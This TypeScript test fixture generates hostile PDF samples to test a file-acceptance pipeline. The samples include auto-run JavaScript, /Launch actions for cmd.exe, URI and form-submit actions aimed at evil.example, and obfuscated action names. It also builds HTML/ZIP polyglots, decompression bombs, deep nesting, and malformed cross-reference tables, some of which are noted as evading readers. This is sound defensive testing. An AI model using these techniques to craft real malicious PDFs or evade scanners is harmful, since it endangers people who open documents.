import { deflateSync } from 'node:zlib';
import type { AcceptedFile } from './hostile-file.ts';
import { packedZeros } from './packed-zeros.ts';
import { deflated, deflatedZeros, makePdf, manySections, objectStream, stream } from './pdf-file.ts';
import { makeZip } from './zip-file.ts';

const javascript = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const page = '<html><script>alert(1)</script></html>';

type Row = [title: string, make: () => Buffer];

const rows: Row[] = [
  // Each of these five got past one of the readers.
  [
    'program on opening, its kind elsewhere',
    () => makePdf({ catalog: '/OpenAction << /S 5 0 R /F (cmd.exe) >>', more: ['/Launch'] }),
  ],
  [
    'site on opening, its kind elsewhere',
    () => makePdf({ catalog: '/OpenAction << /S 5 0 R /URI (https://evil.example) >>', more: ['/URI'] }),
  ],
  [
    'program behind a link, action and kind elsewhere',
    () =>
      makePdf({
        page: '/Annots [<< /Subtype /Link /Rect [0 0 200 200] /A 5 0 R >>]',
        more: ['<< /S 6 0 R /F (cmd.exe) >>', '/Launch'],
      }),
  ],
  [
    'script in an object stream whose numbers are elsewhere',
    () =>
      makePdf({
        catalog: '/OpenAction 9 0 R',
        more: [deflated(`9 0 ${javascript}`, '/Type /ObjStm /N 6 0 R /First 7 0 R'), '1', '4'],
      }),
  ],
  [
    'script hidden in a stream, found by reading the file without its table',
    () =>
      makePdf({
        catalog: '/OpenAction 9 0 R',
        more: [stream(`\n9 0 obj\n${javascript}\nendobj\n`)],
        startxref: 7,
      }),
  ],
  // These kept the process busy, or exhausted its memory.
  ['twenty thousand sections of the table', () => manySections(20_000)],
  [
    'object stream of four million pairs',
    () =>
      makePdf({
        catalog: '/OpenAction 9 0 R',
        more: [
          stream(
            deflateSync('1 0 '.repeat(4_000_000)),
            '/Type /ObjStm /N 4000000 /First 16000000 /Filter /FlateDecode',
          ),
        ],
      }),
  ],
  ['PDF behind a page', () => Buffer.concat([Buffer.from(page), makePdf()])],
  ['PDF with a page at its beginning', () => makePdf({ head: page })],
  ['PDF with a page behind it', () => makePdf({ tail: page })],
  ['PDF and ZIP', () => makePdf({ tail: makeZip() })],
  ['cut before its end', () => makePdf().subarray(0, -7)],
  [
    'cross-reference that leads to itself',
    () => makePdf({ trailer: `/Prev ${makePdf().indexOf('xref\n0')}` }),
  ],
  ['cross-reference that leads nowhere', () => makePdf({ startxref: 7 })],
  ['cross-reference beyond the end', () => makePdf({ startxref: 999_999_999 })],
  ['object with a huge number', () => makePdf({ head: '99999999999999 0 obj\nnull\nendobj\n' })],
  [
    'arrays in arrays, a hundred thousand deep',
    () => makePdf({ more: ['['.repeat(100_000) + ']'.repeat(100_000)] }),
  ],
  ['stream without an end', () => makePdf({ content: Buffer.from('<< /Length 5 >>\nstream\nBT ET\n') })],
  [
    'object hidden in a stream',
    () => makePdf({ more: [stream('\n9 0 obj\n<< /S /JavaScript >>\nendobj\n')] }),
  ],
  [
    'object stream that is damaged',
    () => makePdf({ more: [stream('xxxx', '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode')] }),
  ],
  ['script on opening', () => makePdf({ catalog: `/OpenAction ${javascript}` })],
  ['script on opening, elsewhere', () => makePdf({ catalog: '/OpenAction 5 0 R', more: [javascript] })],
  [
    'script with a disguised name',
    () => makePdf({ catalog: '/OpenAction << /S /J#61vaScript /J#53 (1) >>' }),
  ],
  ['script among the names', () => makePdf({ catalog: '/Names << /JavaScript << /Names [(a) 5 0 R] >> >>' })],
  [
    'script in an object stream',
    () => makePdf({ catalog: '/OpenAction 9 0 R', more: [objectStream(9, javascript)] }),
  ],
  [
    'script in an object stream that does not say so',
    () => makePdf({ more: [deflated(`9 0 ${javascript}`, '/N 1 /First 4')] }),
  ],
  ['site on opening', () => makePdf({ catalog: '/OpenAction << /S /URI /URI (https://evil.example) >>' })],
  [
    'site on opening, elsewhere',
    () => makePdf({ catalog: '/OpenAction 5 0 R', more: ['<< /S /URI /URI (https://evil.example) >>'] }),
  ],
  ['program on opening', () => makePdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >>' })],
  ['action on turning the page', () => makePdf({ page: '/AA << /O << /S /Named /N /Print >> >>' })],
  [
    'form that sends',
    () =>
      makePdf({ page: '/Annots [<< /Subtype /Widget /A << /S /SubmitForm /F (https://evil.example) >> >>]' }),
  ],
  [
    'form of another kind',
    () => makePdf({ catalog: '/AcroForm << /XFA 5 0 R >>', more: [stream('<xdp/>')] }),
  ],
  ['film', () => makePdf({ page: '/Annots [<< /Subtype /RichMedia /RichMediaContent << >> >>]' })],
  ['file at a note', () => makePdf({ page: '/Annots [<< /Subtype /FileAttachment >>]' })],
  ['portfolio', () => makePdf({ catalog: '/Collection << /View /T >>' })],
  [
    'two thousand pages in fact',
    () => makePdf({ more: Array.from({ length: 2000 }, () => '<< /Type /Page /Parent 2 0 R >>') }),
  ],
  [
    'content that was packed twice',
    () =>
      makePdf({
        content: stream(deflateSync(packedZeros(50_000_000)), '/Filter [/FlateDecode /Fl]'),
      }),
  ],
  [
    'many streams that unpack to 100 MB',
    () => makePdf({ more: Array<Buffer>(8).fill(deflatedZeros(100_000_000)) }),
  ],
  ['more objects than any document has', () => makePdf({ more: Array.from({ length: 250_000 }, () => '0') })],
];

/**
 * PDFs that would harm the person opening them. They are accepted: they are never handed out, and pictures
 * of their pages contain none of it.
 */
export const dangerousPdfs: AcceptedFile[] = rows.map(([title, make], index) => ({
  title,
  role: index % 2 === 0 ? 'audit' : 'cv',
  name: 'report.pdf',
  make,
}));
